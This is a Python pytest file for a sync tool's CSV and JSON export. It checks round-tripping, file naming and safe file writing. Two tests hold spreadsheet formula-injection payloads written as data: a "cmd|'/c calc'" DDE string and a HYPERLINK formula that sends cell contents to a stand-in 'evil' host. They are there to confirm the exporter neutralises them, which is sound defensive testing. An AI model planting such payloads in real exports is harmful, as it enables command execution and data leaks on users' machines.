"""An export holds what was known, in a form that other programs read, and harms nothing."""

from __future__ import annotations

import csv
import io
import json
import resource
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from s3sync_tui.insight.documents import (
    growth_document,
    health_document,
    history_document,
    run_object,
)
from s3sync_tui.insight.export import (
    Export,
    Form,
    Table,
    as_csv,
    default_name,
    export_growth,
    export_health,
    export_runs,
    free_path,
    write_new,
)
from s3sync_tui.insight.growth import Period
from tests.support import made_up


def read_back(export: Export) -> list[dict[str, str]]:
    text = export.text(Form.CSV)
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def cells(*values: str) -> list[str]:
    text = as_csv(Table(("text",), [(value,) for value in values]))
    return [row[0] for row in csv.reader(io.StringIO(text, newline=""), strict=True)][1:]


def test_runs_come_back_from_csv_as_they_were() -> None:
    runs = made_up.runs()
    rows = read_back(export_runs(runs))
    assert len(rows) == len(runs)
    for row, run in zip(rows, runs, strict=True):
        assert int(row["run_id"]) == run.run_id
        assert row["status"] == run.status.value
        assert datetime.fromisoformat(row["started_at"]) == run.started_at
        assert datetime.fromisoformat(row["started_at"]).tzinfo is not None
        assert int(row["total"]) == int(row["added"]) + int(row["skipped"]) == run.stats.total
        assert float(row["cost_usd"]) == run.stats.cost_usd
        assert (row["error"], row["hint"]) == (run.error, run.hint)


def test_what_is_not_known_is_an_empty_cell() -> None:
    running = replace(made_up.run(1), finished_at=None)
    assert read_back(export_runs([running]))[0]["finished_at"] == ""


def test_numbers_are_plain_numbers() -> None:
    table = Table(("a", "b", "c"), [(-5, 0.000005, 48_210_332_000_000)])
    assert as_csv(table) == "a,b,c\r\n-5,0.000005,48210332000000\r\n"


def test_growth_comes_back_from_csv_period_by_period() -> None:
    growth = made_up.growth()
    rows = read_back(export_growth(growth))
    for period in Period:
        mine = [row for row in rows if row["period"] == period.value]
        arrivals = growth.arrivals[period]
        assert [int(row["images"]) for row in mine] == arrivals.counts
        assert [int(row["size_bytes"]) for row in mine] == arrivals.size_bytes
        assert [datetime.fromisoformat(row["started_at"]) for row in mine] == arrivals.starts


def test_health_comes_back_from_csv_check_by_check() -> None:
    health = made_up.health()
    rows = read_back(export_health(health))
    assert [row["name"] for row in rows] == [check.name for check in health.checks]
    assert [row["sql"] for row in rows] == ["\n".join(check.sql) for check in health.checks]


def test_json_is_what_the_commands_print() -> None:
    runs, cost = made_up.runs(), made_up.cost()
    growth, health = made_up.growth(), made_up.health()
    for export, document in [
        (export_runs(runs, cost), history_document(runs, cost)),
        (export_growth(growth), growth_document(growth)),
        (export_health(health), health_document(health)),
    ]:
        assert json.loads(export.text(Form.JSON)) == document
    assert json.loads(export_runs(runs).text(Form.JSON))["cost"] is None


def test_a_run_is_one_flat_object() -> None:
    run = run_object(made_up.run(1204))
    assert [name for name, value in run.items() if isinstance(value, dict)] == ["details"]
    assert run["total"] == run["added"] + run["skipped"] == made_up.stats(1204).total


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"])
def test_no_text_is_computed_by_a_spreadsheet(start: str) -> None:
    [cell] = cells(f"{start}cmd|'/c calc'!A0")
    assert cell[0] not in "=+-@\t\r\n＝＋－＠"


def test_a_hostile_error_stays_in_its_cell_as_text() -> None:
    error = '=HYPERLINK("http://evil/?"&A1),"\r\n=1+1\x1b[2J\u202egpj'
    [row] = read_back(export_runs([replace(made_up.run(1), error=error, holder="@SUM(A1)")]))
    assert row["error"] == '\'=HYPERLINK("http://evil/?"&A1),"\n=1+1\\x1b[2J\\u202egpj'
    assert row["holder"] == "'@SUM(A1)"


def test_other_texts_are_left_alone() -> None:
    texts = ["cam-07/2026/a b.jpg", "カメラ, 🎥", 'a "b"', "two\nlines", "'quoted", ""]
    assert cells(*texts) == texts


def test_nothing_known_is_a_header_alone() -> None:
    assert export_growth(made_up.no_growth()).text(Form.CSV).count("\r\n") == 1


def test_the_name_says_what_and_when() -> None:
    at = datetime(2026, 11, 25, 23, 59, tzinfo=UTC)
    assert default_name("runs", Form.CSV, at) == "s3sync-runs-2026-11-25.csv"
    assert default_name("health", Form.JSON, at) == "s3sync-health-2026-11-25.json"


def test_a_taken_name_gets_the_next_number(tmp_path: Path) -> None:
    path = tmp_path / "runs.csv"
    assert free_path(path) == path
    path.touch()
    (tmp_path / "runs-2.csv").symlink_to("nowhere")
    assert free_path(path) == tmp_path / "runs-3.csv"


def test_nothing_is_overwritten(tmp_path: Path) -> None:
    path = tmp_path / "runs.csv"
    path.write_text("mine")
    with pytest.raises(FileExistsError):
        write_new(path, "theirs")
    link = tmp_path / "link.csv"
    link.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(FileExistsError):
        write_new(link, "theirs")
    assert path.read_text() == "mine"
    assert not (tmp_path / "elsewhere").exists()


def test_of_a_file_for_which_there_is_no_room_nothing_stays(tmp_path: Path) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, hard))
    try:
        with pytest.raises(OSError, match="too large"):
            write_new(tmp_path / "runs.csv", "x" * 100_000)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert list(tmp_path.iterdir()) == []
